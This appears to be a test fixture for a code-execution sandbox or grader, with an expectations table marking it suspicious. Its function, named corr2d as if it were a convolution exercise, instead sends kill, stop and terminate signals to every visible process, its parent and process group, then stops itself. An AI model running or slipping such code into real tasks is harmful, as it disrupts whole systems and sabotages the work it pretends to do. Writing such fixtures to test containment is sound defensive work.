"""Sends every signal to every process it can see, to all of them at once, and to itself."""

EXPECT = {"corr2d": "0 failed|crashed", "flags": "suspicious", "may": "crashed"}

# %% corr2d
import os
import signal


def corr2d(X, K):
    me = os.getpid()
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL, signal.SIGCONT):
        for pid in (-1, 0, os.getppid(), *range(1, 5000)):
            try:
                if pid != me:
                    os.kill(pid, number)
            except OSError:
                pass
    os.kill(me, signal.SIGSTOP)
    return np.zeros((1, 1))
